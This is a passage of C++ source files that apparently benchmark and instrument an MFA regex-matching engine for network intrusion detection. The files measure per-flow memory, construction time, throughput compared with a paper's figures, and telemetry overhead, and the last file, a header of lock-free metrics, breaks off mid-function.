      : nflows(nflows_in) {
    payload.assign(payload_len, 'a');
    payload[payload_len / 2] = 'q';  // never matches C8 content
    packets.reserve(nflows * pkts_per_flow);
    for (std::size_t round = 0; round < pkts_per_flow; ++round) {
      for (std::size_t f = 0; f < nflows; ++f) {
        const flow::FlowKey key{static_cast<std::uint32_t>(f + 1),
                                static_cast<std::uint32_t>(f >> 16), 1000, 80, 6};
        packets.push_back(flow::Packet{
            key, round * payload_len,
            reinterpret_cast<const std::uint8_t*>(payload.data()),
            static_cast<std::uint32_t>(payload_len)});
      }
    }
  }
};

struct FlowRunResult {
  double bytes_per_flow = 0.0;
  double cycles_per_byte = 0.0;
  std::uint64_t p99_scan_ns = 0;
  std::uint64_t matches = 0;
  std::size_t flows = 0;
};

template <typename InspT>
FlowRunResult run_inspector(InspT& insp, const Workload& w, double ns_per_cycle) {
  FlowRunResult r;
  obs::Histogram scan_ns;  // fixed-size counters, no heap
  CountingSink sink;
  const std::size_t heap_before = g_live_bytes.load(std::memory_order_relaxed);
  std::uint64_t cycles = 0;
  for (const flow::Packet& p : w.packets) {
    const std::uint64_t t0 = util::rdtsc_now();
    insp.packet(p, sink);
    const std::uint64_t dt = util::rdtsc_now() - t0;
    cycles += dt;
    scan_ns.record(static_cast<std::uint64_t>(static_cast<double>(dt) * ns_per_cycle));
  }
  const std::size_t heap_after = g_live_bytes.load(std::memory_order_relaxed);
  r.flows = insp.flow_count();
  r.bytes_per_flow = r.flows == 0 ? 0.0
                                  : static_cast<double>(heap_after - heap_before +
                                                        sizeof(InspT)) /
                                        static_cast<double>(r.flows);
  const double payload_total =
      static_cast<double>(w.packets.size()) * static_cast<double>(w.payload.size());
  r.cycles_per_byte = payload_total > 0 ? static_cast<double>(cycles) / payload_total : 0.0;
  r.p99_scan_ns = scan_ns.snapshot().quantile(0.99);
  r.matches = sink.count;
  return r;
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Args args = bench::Args::parse(argc, argv);
  const double ns_per_cycle = 1e9 / util::tsc_ticks_per_second();

  const patterns::PatternSet set = patterns::set_by_name("C8");
  const auto mfa = core::build_mfa(set.patterns);
  if (!mfa) {
    std::fprintf(stderr, "MFA construction failed\n");
    return 1;
  }
  std::printf("engine: mfa (%s), context %zu B, inline eligible: %s\n\n",
              set.name.c_str(), mfa->context_bytes(),
              mfa->inline_contexts_ok() ? "yes" : "no");

  std::vector<std::size_t> flow_counts;
  if (args.flows != 0) flow_counts = {args.flows};
  else if (args.smoke) flow_counts = {100000};
  else flow_counts = {100000, 1000000};

  obs::BenchReport report("flows");
  util::TextTable table({"flows", "inspector", "bytes/flow", "reduction", "CpB",
                         "p99 scan ns", "matches"});
  bool gate_failed = false;
  bool conservation_failed = false;

  for (const std::size_t nflows : flow_counts) {
    const Workload w(nflows, /*pkts_per_flow=*/4, /*payload_len=*/64);
    const std::string trace_label = "inorder-" + std::to_string(nflows);

    flow::FlowInspector<core::Mfa> flat{*mfa};
    const FlowRunResult fr = run_inspector(flat, w, ns_per_cycle);

    flow::TieredFlowInspector<core::Mfa> tiered{*mfa};
    tiered.reserve_flows(nflows);  // deployments size for max_flows; match that
    const FlowRunResult tr = run_inspector(tiered, w, ns_per_cycle);

    if (fr.matches != tr.matches || fr.flows != tr.flows) {
      std::fprintf(stderr,
                   "MISMATCH at %zu flows: flat %llu matches/%zu flows, "
                   "tiered %llu/%zu\n",
                   nflows, static_cast<unsigned long long>(fr.matches), fr.flows,
                   static_cast<unsigned long long>(tr.matches), tr.flows);
      conservation_failed = true;
    }

    const double reduction =
        tr.bytes_per_flow > 0 ? fr.bytes_per_flow / tr.bytes_per_flow : 0.0;
    table.add_row({std::to_string(nflows), "flat",
                   util::format_double(fr.bytes_per_flow, 1), "1.00",
                   util::format_double(fr.cycles_per_byte, 1),
                   std::to_string(fr.p99_scan_ns), std::to_string(fr.matches)});
    table.add_row({std::to_string(nflows), "tiered",
                   util::format_double(tr.bytes_per_flow, 1),
                   util::format_double(reduction, 2),
                   util::format_double(tr.cycles_per_byte, 1),
                   std::to_string(tr.p99_scan_ns), std::to_string(tr.matches)});
    report.add(set.name, trace_label, "mfa-flat", fr.cycles_per_byte, fr.matches);
    report.add(set.name, trace_label, "mfa-tiered", tr.cycles_per_byte, tr.matches);

    if (args.assert_bytes_per_flow != 0 &&
        tr.bytes_per_flow > static_cast<double>(args.assert_bytes_per_flow)) {
      std::fprintf(stderr,
                   "FAIL: tiered bytes/flow %.1f exceeds ceiling %zu at %zu flows\n",
                   tr.bytes_per_flow, args.assert_bytes_per_flow, nflows);
      gate_failed = true;
    }

    // Eviction accounting under a bounded table: each key arrives exactly
    // once (one-packet flows), so flow creations == nflows and the table
    // must conserve creations == resident + evicted (the timing wheel may
    // not drop or double-evict anything).
    const Workload once(nflows, /*pkts_per_flow=*/1, /*payload_len=*/64);
    flow::TieredFlowInspector<core::Mfa> bounded{*mfa, /*max_flows=*/nflows / 2};
    CountingSink sink;
    for (const flow::Packet& p : once.packets) bounded.packet(p, sink);
    const std::uint64_t accounted = bounded.flow_count() + bounded.evicted_count();
    if (accounted != nflows) {
      std::fprintf(stderr,
                   "ACCOUNTING VIOLATION at %zu flows: resident %zu + evicted "
                   "%llu != inserts %zu\n",
                   nflows, bounded.flow_count(),
                   static_cast<unsigned long long>(bounded.evicted_count()), nflows);
      conservation_failed = true;
    }
  }

  bench::print_table(table, args.csv);
  std::printf(
      "Reading: bytes/flow is live heap delta (malloc_usable_size-accurate)\n"
      "per resident flow. Flat pays an unordered_map node + LRU links per\n"
      "flow; tiered keeps in-order MFA flows in one %zu-byte hot slot with\n"
      "the (q, m) context inline, cold slabs only for reordering flows.\n",
      sizeof(flow::TieredFlowInspector<core::Mfa>::HotSlot));
  bench::write_report(args, report);
  if (conservation_failed) return 1;
  return gate_failed ? 1 : 0;
}
