// Fig. 4: real-life throughput in cycles per byte, every pattern set on
// every trace with every engine. Paper shapes: DFA fastest (~19 CpB in the
// authors' build); MFA next and ~43% faster than XFA; NFA slow with a
// bimodal jump on B217p; HFA slowest of the memory-augmented engines;
// MFA is the only memory-augmented engine that completes B217p.
//
// --json FILE additionally emits every (set, trace, engine) cell as an
// mfa.bench.v1 record — the same schema bench_fig5/bench_pipeline use.
#include <map>

#include "bench_common.h"

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  std::printf("Fig. 4: real-life trace throughput, cycles per byte\n"
              "(per-trace payload %.1f MB, %d reps; '-' = engine not constructable)\n\n",
              static_cast<double>(args.trace_bytes) / (1024 * 1024), args.reps);

  struct Avg {
    double sum = 0;
    int n = 0;
    void add(double v) { sum += v; ++n; }
    [[nodiscard]] double mean() const { return n > 0 ? sum / n : 0; }
  };
  std::map<std::string, Avg> avg;
  obs::BenchReport report("fig4");

  const auto sets = patterns::builtin_sets();
  for (const auto& set : sets) {
    std::fprintf(stderr, "[fig4] building %s ...\n", set.name.c_str());
    const eval::Suite suite = eval::build_suite(set, bench::suite_options(args));
    const auto exemplars = eval::attack_exemplars(set, 2, 777);
    const auto traces = bench::real_life_traces(args.trace_bytes, exemplars);

    util::TextTable table({"Trace", "DFA", "NFA", "HFA", "XFA", "MFA", "matches"});
    for (const auto& [name, trace] : traces) {
      std::map<std::string, std::string> cell;
      std::uint64_t matches = 0;
      bench::for_each_engine(suite, [&](const char* engine, const auto& e) {
        const auto tp = eval::measure_throughput(e, trace, args.reps);
        cell[engine] = util::format_double(tp.cycles_per_byte, 1);
        matches = std::max(matches, tp.matches);
        avg[engine].add(tp.cycles_per_byte);
        report.add(set.name, name, engine, tp.cycles_per_byte, tp.matches);
      });
      std::vector<std::string> row = {name};
      for (const auto& [key, header] : bench::engine_columns())
        row.push_back(cell.count(key) != 0 ? cell[key] : "-");
      row.push_back(std::to_string(matches));
      table.add_row(std::move(row));
    }
    std::printf("=== %s ===\n", set.name.c_str());
    bench::print_table(table, args.csv);
  }

  std::printf("Averages across all sets and traces (CpB):\n"
              "  DFA %.1f   MFA %.1f   XFA %.1f   NFA %.1f   HFA %.1f\n"
              "  (paper: DFA 19, MFA 49, XFA 125, NFA ~130, HFA ~360)\n",
              avg["dfa"].mean(), avg["mfa"].mean(), avg["xfa"].mean(),
              avg["nfa"].mean(), avg["hfa"].mean());
  if (avg["xfa"].mean() > 0)
    std::printf("MFA vs XFA: %.0f%% faster (paper reports 43%%)\n",
                (avg["xfa"].mean() - avg["mfa"].mean()) / avg["xfa"].mean() * 100.0);
  bench::write_report(args, report);
  return 0;
}
