// Fig. 4: real-life throughput in cycles per byte, every pattern set on
// every trace with every engine. Paper shapes: DFA fastest (~19 CpB in the
// authors' build); MFA next and ~43% faster than XFA; NFA slow with a
// bimodal jump on B217p; HFA slowest of the memory-augmented engines;
// MFA is the only memory-augmented engine that completes B217p.
#include "bench_common.h"

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  std::printf("Fig. 4: real-life trace throughput, cycles per byte\n"
              "(per-trace payload %.1f MB, %d reps; '-' = engine not constructable)\n\n",
              static_cast<double>(args.trace_bytes) / (1024 * 1024), args.reps);

  struct Avg {
    double sum = 0;
    int n = 0;
    void add(double v) { sum += v; ++n; }
    [[nodiscard]] double mean() const { return n > 0 ? sum / n : 0; }
  };
  Avg avg_dfa, avg_nfa, avg_hfa, avg_xfa, avg_mfa;

  const auto sets = patterns::builtin_sets();
  for (const auto& set : sets) {
    std::fprintf(stderr, "[fig4] building %s ...\n", set.name.c_str());
    const eval::Suite suite = eval::build_suite(set, bench::suite_options(args));
    const auto exemplars = eval::attack_exemplars(set, 2, 777);
    const auto traces = bench::real_life_traces(args.trace_bytes, exemplars);

    util::TextTable table({"Trace", "DFA", "NFA", "HFA", "XFA", "MFA", "matches"});
    for (const auto& [name, trace] : traces) {
      std::string dfa_cpb = "-";
      std::uint64_t matches = 0;
      if (suite.dfa) {
        const auto tp = eval::measure_throughput(*suite.dfa, trace, args.reps);
        dfa_cpb = util::format_double(tp.cycles_per_byte, 1);
        matches = tp.matches;
        avg_dfa.add(tp.cycles_per_byte);
      }
      const auto nfa_tp = eval::measure_throughput(suite.nfa, trace, args.reps);
      avg_nfa.add(nfa_tp.cycles_per_byte);
      matches = std::max(matches, nfa_tp.matches);
      std::string hfa_cpb = "-";
      if (suite.hfa) {
        const auto tp = eval::measure_throughput(*suite.hfa, trace, args.reps);
        hfa_cpb = util::format_double(tp.cycles_per_byte, 1);
        avg_hfa.add(tp.cycles_per_byte);
      }
      std::string xfa_cpb = "-";
      if (suite.xfa) {
        const auto tp = eval::measure_throughput(*suite.xfa, trace, args.reps);
        xfa_cpb = util::format_double(tp.cycles_per_byte, 1);
        avg_xfa.add(tp.cycles_per_byte);
      }
      std::string mfa_cpb = "-";
      if (suite.mfa) {
        const auto tp = eval::measure_throughput(*suite.mfa, trace, args.reps);
        mfa_cpb = util::format_double(tp.cycles_per_byte, 1);
        avg_mfa.add(tp.cycles_per_byte);
      }
      table.add_row({name, dfa_cpb, util::format_double(nfa_tp.cycles_per_byte, 1),
                     hfa_cpb, xfa_cpb, mfa_cpb, std::to_string(matches)});
    }
    std::printf("=== %s ===\n", set.name.c_str());
    bench::print_table(table, args.csv);
  }

  std::printf("Averages across all sets and traces (CpB):\n"
              "  DFA %.1f   MFA %.1f   XFA %.1f   NFA %.1f   HFA %.1f\n"
              "  (paper: DFA 19, MFA 49, XFA 125, NFA ~130, HFA ~360)\n",
              avg_dfa.mean(), avg_mfa.mean(), avg_xfa.mean(), avg_nfa.mean(),
              avg_hfa.mean());
  if (avg_xfa.mean() > 0)
    std::printf("MFA vs XFA: %.0f%% faster (paper reports 43%%)\n",
                (avg_xfa.mean() - avg_mfa.mean()) / avg_xfa.mean() * 100.0);
  return 0;
}
