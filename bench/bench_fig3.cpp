// Fig. 3: automaton construction times (seconds) for DFA / HFA / NFA / MFA.
// Paper shapes: NFA fastest; MFA orders of magnitude faster than plain DFA
// (seconds, not minutes); DFA fails outright on B217p.
#include "bench_common.h"

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  std::printf("Fig. 3: construction times in seconds (DFA '-' = cap %u exceeded;\n"
              "        time shown for failures is time-to-failure)\n\n",
              args.dfa_cap);
  util::TextTable table({"Set", "NFA", "DFA", "HFA", "MFA", "DFA/MFA speedup"});

  const auto sets = patterns::builtin_sets();
  for (const auto& set : sets) {
    std::fprintf(stderr, "[fig3] building %s ...\n", set.name.c_str());
    const eval::Suite suite = eval::build_suite(set, bench::suite_options(args));
    std::string speedup = "-";
    if (suite.dfa_build.ok && suite.mfa_build.ok && suite.mfa_build.seconds > 0)
      speedup = util::format_double(suite.dfa_build.seconds / suite.mfa_build.seconds, 1) + "x";
    table.add_row({set.name, util::format_double(suite.nfa_build.seconds, 4),
                   (suite.dfa_build.ok ? "" : "fail@") +
                       util::format_double(suite.dfa_build.seconds, 3),
                   util::format_double(suite.hfa_build.seconds, 3),
                   util::format_double(suite.mfa_build.seconds, 3), speedup});
  }
  bench::print_table(table, args.csv);
  return 0;
}
