// Observability overhead: what do latency spans + the cost profiler cost?
//
// Runs the same trace through the sharded pipeline twice with telemetry
// attached — once with spans and profiling off, once with both sampling at
// the default 1-in-64 — and reports the CpB delta. The contract (DESIGN.md
// Sec. 12) is that sampled observability stays under a few percent of the
// telemetry-only cost; --assert-overhead-pct turns that into a CI gate.
//
// Side products of the instrumented run: the span latency quantiles
// (queue-wait / scan / end-to-end), the top-K expensive-rules table, and
// --profile FILE writes the full mfa.profile.v1 JSON artifact.
#include "bench_common.h"

#include "obs/profile.h"

namespace {

struct RunResult {
  double cpb = 0.0;
  std::uint64_t matches = 0;
};

/// Submit→finish wall CpB for one pipeline configuration. First rep warms
/// when reps > 1 (same protocol as eval::measure_pipeline_throughput; local
/// because this bench needs full Options control, not just the metrics ptr).
RunResult run_pipeline(const mfa::core::Mfa& engine, const mfa::trace::Trace& t,
                       const mfa::pipeline::Options& opt_template, int reps) {
  RunResult r;
  std::uint64_t cycles = 0;
  int timed = 0;
  for (int rep = 0; rep < reps; ++rep) {
    mfa::pipeline::ShardedInspector<mfa::core::Mfa> pipe(engine, opt_template);
    pipe.start();
    const std::uint64_t start = mfa::util::rdtsc_now();
    t.for_each_packet([&](const mfa::flow::Packet& p) { pipe.submit(p); });
    pipe.finish();
    const std::uint64_t elapsed = mfa::util::rdtsc_now() - start;
    if (!(reps > 1 && rep == 0)) {
      cycles += elapsed;
      ++timed;
    }
    r.matches = pipe.totals().matches;
  }
  if (t.payload_bytes() > 0 && timed > 0)
    r.cpb = static_cast<double>(cycles) /
            (static_cast<double>(timed) * static_cast<double>(t.payload_bytes()));
  return r;
}

void print_span_quantiles(const char* label,
                          const mfa::obs::HistogramSnapshot& h) {
  std::printf("  %-14s count %8llu  p50 %8llu ns  p99 %8llu ns  max-bucket %llu ns\n",
              label, static_cast<unsigned long long>(h.count),
              static_cast<unsigned long long>(h.quantile(0.50)),
              static_cast<unsigned long long>(h.quantile(0.99)),
              static_cast<unsigned long long>(h.quantile(1.0)));
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mfa;

  // Bench-specific flags, filtered out before the shared parser (which
  // rejects unknown options).
  double assert_overhead_pct = 0.0;  // 0 = report only
  std::string profile_path;
  std::uint32_t shift = 6;
  std::vector<char*> rest = {argv[0]};
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    const auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "missing value for %s\n", a.c_str());
        std::exit(2);
      }
      return argv[++i];
    };
    if (a == "--assert-overhead-pct") assert_overhead_pct = std::atof(next());
    else if (a == "--profile") profile_path = next();
    else if (a == "--shift") shift = static_cast<std::uint32_t>(std::atoi(next()));
    else if (a == "--help") {
      std::printf("options: --assert-overhead-pct X  --profile FILE  --shift N"
                  "  + bench_common flags (--smoke --bytes --reps --json ...)\n");
      return 0;
    } else rest.push_back(argv[i]);
  }
  const bench::Args args =
      bench::Args::parse(static_cast<int>(rest.size()), rest.data());

  const patterns::PatternSet set = patterns::set_by_name("C8");
  auto engine = core::build_mfa(set.patterns);
  if (!engine) {
    std::fprintf(stderr, "MFA construction failed\n");
    return 1;
  }
  const auto exemplars = eval::attack_exemplars(set, 2, 808);
  trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefense,
                                         args.trace_bytes, 808, exemplars);
  if (args.flows != 0) t = bench::with_flow_count(t, args.flows);

  const std::size_t shards = 4;
  const int reps = args.smoke ? 2 : std::max(args.reps, 3);
  std::printf("=== obs overhead: %s, trace %.2f MB, %zu shards, %d reps ===\n",
              set.name.c_str(),
              static_cast<double>(t.payload_bytes()) / (1024 * 1024), shards,
              reps);

  // Telemetry-only reference: counters and histograms, no spans, no profiler.
  obs::MetricsRegistry telem_reg({.shards = shards});
  pipeline::Options telem_opt;
  telem_opt.shards = shards;
  telem_opt.metrics = &telem_reg;
  telem_opt.trace_sample_shift = 64;  // spans off
  const RunResult telem = run_pipeline(*engine, t, telem_opt, reps);

  // Full observability: spans + profiler at 1-in-2^shift.
  obs::MetricsRegistry obs_reg({.shards = shards});
  obs::Profiler profiler({.rule_capacity = set.patterns.size() + 1,  // ids 1..n
                          .state_capacity = engine->state_count(),
                          .sample_shift = shift});
  pipeline::Options obs_opt;
  obs_opt.shards = shards;
  obs_opt.metrics = &obs_reg;
  obs_opt.trace_sample_shift = shift;
  obs_opt.profiler = &profiler;
  const RunResult full = run_pipeline(*engine, t, obs_opt, reps);

  const double overhead_pct =
      telem.cpb > 0.0 ? (full.cpb - telem.cpb) / telem.cpb * 100.0 : 0.0;
  util::TextTable table({"mode", "CpB", "matches", "overhead %"});
  table.add_row({"telemetry-only", util::format_double(telem.cpb, 2),
                 std::to_string(telem.matches), "-"});
  table.add_row({"spans+profiler", util::format_double(full.cpb, 2),
                 std::to_string(full.matches),
                 util::format_double(overhead_pct, 2)});
  bench::print_table(table, args.csv);
  if (telem.matches != full.matches)
    std::fprintf(stderr, "WARNING: instrumented matches %llu != reference %llu\n",
                 static_cast<unsigned long long>(full.matches),
                 static_cast<unsigned long long>(telem.matches));

  const obs::RegistrySnapshot snap = obs_reg.snapshot();
  std::printf("latency spans (1 in %llu packets, %llu sampled):\n",
              static_cast<unsigned long long>(std::uint64_t{1} << shift),
              static_cast<unsigned long long>(snap.totals().spans_sampled));
  print_span_quantiles("queue-wait", snap.totals().queue_wait_ns);
  print_span_quantiles("scan", snap.totals().span_scan_ns);
  print_span_quantiles("end-to-end", snap.totals().e2e_ns);

  // Pattern ids are 1..n; name them by their regex source text.
  std::vector<std::string> rule_names(set.sources.size() + 1);
  for (std::size_t i = 0; i < set.sources.size(); ++i)
    rule_names[i + 1] = set.sources[i];
  const obs::ProfileSnapshot prof = profiler.snapshot();
  std::printf("\n%s\n", obs::profile_table(prof, 10, &rule_names).c_str());

  if (!profile_path.empty()) {
    const std::string json = obs::to_profile_json(prof, 10, &rule_names);
    std::FILE* f = std::fopen(profile_path.c_str(), "w");
    if (f == nullptr) {
      std::fprintf(stderr, "failed to write %s\n", profile_path.c_str());
      return 1;
    }
    std::fwrite(json.data(), 1, json.size(), f);
    std::fputc('\n', f);
    std::fclose(f);
    std::printf("wrote %s\n", profile_path.c_str());
  }

  if (!args.json_path.empty()) {
    obs::BenchReport report("trace");
    report.add(set.name, "telemetry-only", core::Mfa::kEngineName, telem.cpb,
               telem.matches, shards);
    report.add(set.name, "spans+profiler", core::Mfa::kEngineName, full.cpb,
               full.matches, shards);
    report.set_telemetry(snap);
    bench::write_report(args, report);
  }

  if (assert_overhead_pct > 0.0 && overhead_pct > assert_overhead_pct) {
    std::fprintf(stderr,
                 "FAIL: observability overhead %.2f%% exceeds budget %.2f%%\n",
                 overhead_pct, assert_overhead_pct);
    return 1;
  }
  return 0;
}
