// Telemetry core: lock-free per-shard metrics and a drainable match-event
// trace ring (DESIGN.md Sec. 8 "Observability").
//
// The paper's argument is quantitative — MFA wins only if per-byte work
// stays near-DFA while filter overhead stays negligible (Sec. VII) — so the
// running system must be observable without perturbing what it measures.
// Every hot-path update here is a relaxed atomic increment into
// shard-private, cache-line-aligned storage: no locks, no CAS loops, no
// cross-shard sharing. Readers take best-effort-consistent snapshots from
// any thread while workers keep scanning; monotonic counters can only be
// observed "slightly behind", never torn (all fields are atomics, so the
// concurrent snapshot path is TSan-clean by construction).
//
// This header is dependency-free below util/ so that flow/ and pipeline/
// can include it without cycles; flow identifiers are passed as raw tuple
// fields rather than flow::FlowKey.
#pragma once

#include <atomic>
#include <bit>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <utility>
#include <vector>

namespace mfa::obs {

/// Bucket count of every log-bucketed histogram. Bucket i holds values
/// whose bit width is i (i.e. v in [2^(i-1), 2^i - 1]; bucket 0 = {0});
/// values too large for the last bucket clamp into it.
inline constexpr std::size_t kHistogramBuckets = 64;

/// Reserved match-id used in the MatchTraceRing for flow-quarantine events
/// (DESIGN.md Sec. 9): the flow's 5-tuple identifies the quarantined flow
/// and `offset` carries the stream position at eviction. Real pattern ids
/// never reach this value (pattern tables are far smaller than 2^32-1).
inline constexpr std::uint32_t kFlowQuarantinedEventId = 0xffffffffu;

/// Reserved match-id used in the MatchTraceRing for ruleset hot-swap events
/// (DESIGN.md Sec. 10): the 5-tuple fields are zero and `offset` carries the
/// newly published engine generation.
inline constexpr std::uint32_t kRulesetSwappedEventId = 0xfffffffeu;

/// Reserved match-id used in the MatchTraceRing for degradation-ladder
/// transitions (DESIGN.md §14): src_ip carries the shard index, `offset`
/// the new ladder level (0-3). One event per controller transition.
inline constexpr std::uint32_t kDegradeTransitionEventId = 0xfffffffdu;

/// Read-side copy of a Histogram: plain integers, mergeable across shards.
struct HistogramSnapshot {
  std::uint64_t counts[kHistogramBuckets] = {};
  std::uint64_t count = 0;  ///< total recorded values
  std::uint64_t sum = 0;    ///< sum of recorded values (exact, not bucketed)

  HistogramSnapshot& operator+=(const HistogramSnapshot& o) {
    for (std::size_t i = 0; i < kHistogramBuckets; ++i) counts[i] += o.counts[i];
    count += o.count;
    sum += o.sum;
    return *this;
  }

  [[nodiscard]] double mean() const {
    return count > 0 ? static_cast<double>(sum) / static_cast<double>(count) : 0.0;
  }

  /// Highest non-empty bucket index (0 when the histogram is empty).
  [[nodiscard]] std::size_t max_bucket() const {
    std::size_t hi = 0;
    for (std::size_t i = 0; i < kHistogramBuckets; ++i)
      if (counts[i] != 0) hi = i;
    return hi;
  }

  /// Upper bound of the bucket where the cumulative count first reaches
  /// q * count — a log2-granular quantile estimate.
  [[nodiscard]] std::uint64_t quantile(double q) const;
};

/// Log2-bucketed histogram with relaxed-atomic recording. One writer per
/// instance on the hot path (shard-confined); any number of concurrent
/// snapshot readers.
class Histogram {
 public:
  static constexpr std::size_t bucket_index(std::uint64_t v) {
    const auto w = static_cast<std::size_t>(std::bit_width(v));
    return w < kHistogramBuckets ? w : kHistogramBuckets - 1;
  }

  /// Largest value that lands in bucket i (UINT64_MAX for the clamp bucket).
  static constexpr std::uint64_t bucket_upper_bound(std::size_t i) {
    return i + 1 >= kHistogramBuckets ? ~std::uint64_t{0} : (std::uint64_t{1} << i) - 1;
  }

  void record(std::uint64_t v) {
    counts_[bucket_index(v)].fetch_add(1, std::memory_order_relaxed);
    sum_.fetch_add(v, std::memory_order_relaxed);
    count_.fetch_add(1, std::memory_order_relaxed);
  }

  [[nodiscard]] HistogramSnapshot snapshot() const {
    HistogramSnapshot s;
    for (std::size_t i = 0; i < kHistogramBuckets; ++i)
      s.counts[i] = counts_[i].load(std::memory_order_relaxed);
    s.count = count_.load(std::memory_order_relaxed);
    s.sum = sum_.load(std::memory_order_relaxed);
    return s;
  }

 private:
  std::atomic<std::uint64_t> counts_[kHistogramBuckets] = {};
  std::atomic<std::uint64_t> sum_{0};
  std::atomic<std::uint64_t> count_{0};
};

/// Read-side copy of one shard's metrics. operator+= merges across shards
/// (gauges sum; max_queue_depth takes the max).
struct ShardSnapshot {
  std::uint64_t packets = 0;
  std::uint64_t bytes = 0;
  std::uint64_t matches = 0;
  std::uint64_t flows = 0;                     ///< gauge: flows resident now
  std::uint64_t evictions = 0;
  std::uint64_t reassembly_drops = 0;
  std::uint64_t reassembly_pending_bytes = 0;  ///< gauge: buffered OOO bytes
  std::uint64_t flow_hot_slots = 0;  ///< gauge: tiered hot-table slot capacity
  std::uint64_t flow_cold_bytes = 0; ///< gauge: tiered cold-tier slab bytes
  std::uint64_t queue_full_spins = 0;          ///< producer full-spin count
  std::uint64_t max_queue_depth = 0;           ///< gauge: high-water mark
  std::uint64_t shed_packets = 0;       ///< packets shed instead of scanned
  std::uint64_t shed_bytes = 0;         ///< payload bytes of shed packets
  std::uint64_t flows_quarantined = 0;  ///< flows evicted for CPU over-budget
  std::uint64_t prefilter_pass = 0;  ///< gate-eligible chunks scanned in full
  std::uint64_t prefilter_skip = 0;  ///< chunks proven clean, scan skipped
  std::uint64_t degraded_hits = 0;   ///< L2 probe-positive detections
  std::uint64_t degrade_level = 0;   ///< gauge: ladder level (merge takes max)
  std::uint64_t degrade_transitions = 0;  ///< controller level changes
  std::uint64_t flows_recovered = 0;  ///< journal-reset flows after crashes
  std::uint64_t worker_restarts = 0;    ///< crashed shard workers restarted
  std::uint64_t worker_stalls = 0;      ///< watchdog stall detections
  std::uint64_t spans_sampled = 0;      ///< packets carrying a latency span
  HistogramSnapshot scan_ns;      ///< per-packet scan latency, nanoseconds
  HistogramSnapshot packet_bytes; ///< per-packet payload size
  HistogramSnapshot bytes_per_flow;  ///< flow-table bytes / resident flow
  HistogramSnapshot queue_depth;  ///< SPSC depth sampled at each submit()
  // Latency spans (sampled 1-in-N; see pipeline::Options::trace_sample_shift):
  HistogramSnapshot queue_wait_ns;  ///< submit() -> worker dequeue
  HistogramSnapshot span_scan_ns;   ///< scan-start -> scan-end of the burst
  HistogramSnapshot e2e_ns;         ///< submit() -> scan-end (end to end)

  ShardSnapshot& operator+=(const ShardSnapshot& o) {
    packets += o.packets;
    bytes += o.bytes;
    matches += o.matches;
    flows += o.flows;
    evictions += o.evictions;
    reassembly_drops += o.reassembly_drops;
    reassembly_pending_bytes += o.reassembly_pending_bytes;
    flow_hot_slots += o.flow_hot_slots;
    flow_cold_bytes += o.flow_cold_bytes;
    queue_full_spins += o.queue_full_spins;
    shed_packets += o.shed_packets;
    shed_bytes += o.shed_bytes;
    flows_quarantined += o.flows_quarantined;
    prefilter_pass += o.prefilter_pass;
    prefilter_skip += o.prefilter_skip;
    degraded_hits += o.degraded_hits;
    degrade_transitions += o.degrade_transitions;
    flows_recovered += o.flows_recovered;
    worker_restarts += o.worker_restarts;
    worker_stalls += o.worker_stalls;
    spans_sampled += o.spans_sampled;
    max_queue_depth = max_queue_depth > o.max_queue_depth ? max_queue_depth
                                                          : o.max_queue_depth;
    // The merged "level" is the worst shard's: one shard at L2 means the
    // aggregate is degraded to L2, whatever the siblings are doing.
    degrade_level = degrade_level > o.degrade_level ? degrade_level
                                                    : o.degrade_level;
    scan_ns += o.scan_ns;
    packet_bytes += o.packet_bytes;
    bytes_per_flow += o.bytes_per_flow;
    queue_depth += o.queue_depth;
    queue_wait_ns += o.queue_wait_ns;
    span_scan_ns += o.span_scan_ns;
    e2e_ns += o.e2e_ns;
    return *this;
  }
};

/// One shard's live counters. Cache-line-aligned so two shards never share
/// a line; the scan-side fields are written only by the shard's worker
/// thread, the queue-side fields only by the submit() producer, and any
/// thread may snapshot.
struct alignas(64) ShardMetrics {
  // --- scan side (shard worker / sequential inspector thread) ---
  std::atomic<std::uint64_t> packets{0};
  std::atomic<std::uint64_t> bytes{0};
  std::atomic<std::uint64_t> matches{0};
  std::atomic<std::uint64_t> flows{0};                     // gauge
  std::atomic<std::uint64_t> evictions{0};
  std::atomic<std::uint64_t> reassembly_drops{0};
  std::atomic<std::uint64_t> reassembly_pending_bytes{0};  // gauge
  std::atomic<std::uint64_t> flow_hot_slots{0};            // gauge
  std::atomic<std::uint64_t> flow_cold_bytes{0};           // gauge
  std::atomic<std::uint64_t> flows_quarantined{0};
  std::atomic<std::uint64_t> prefilter_pass{0};
  std::atomic<std::uint64_t> prefilter_skip{0};
  std::atomic<std::uint64_t> degraded_hits{0};
  std::atomic<std::uint64_t> degrade_level{0};        // gauge
  std::atomic<std::uint64_t> degrade_transitions{0};
  std::atomic<std::uint64_t> spans_sampled{0};
  Histogram scan_ns;
  Histogram packet_bytes;
  Histogram bytes_per_flow;
  // Latency spans, recorded by the shard worker for sampled packets only.
  Histogram queue_wait_ns;
  Histogram span_scan_ns;
  Histogram e2e_ns;
  // --- queue side (the submit() producer thread) ---
  std::atomic<std::uint64_t> queue_full_spins{0};
  std::atomic<std::uint64_t> max_queue_depth{0};           // gauge
  Histogram queue_depth;
  // --- overload/supervision side (producer, worker, or watchdog thread) ---
  std::atomic<std::uint64_t> shed_packets{0};
  std::atomic<std::uint64_t> shed_bytes{0};
  std::atomic<std::uint64_t> worker_restarts{0};
  std::atomic<std::uint64_t> worker_stalls{0};
  std::atomic<std::uint64_t> flows_recovered{0};  // journal resets (watchdog)

  [[nodiscard]] ShardSnapshot snapshot() const {
    ShardSnapshot s;
    s.packets = packets.load(std::memory_order_relaxed);
    s.bytes = bytes.load(std::memory_order_relaxed);
    s.matches = matches.load(std::memory_order_relaxed);
    s.flows = flows.load(std::memory_order_relaxed);
    s.evictions = evictions.load(std::memory_order_relaxed);
    s.reassembly_drops = reassembly_drops.load(std::memory_order_relaxed);
    s.reassembly_pending_bytes =
        reassembly_pending_bytes.load(std::memory_order_relaxed);
    s.flow_hot_slots = flow_hot_slots.load(std::memory_order_relaxed);
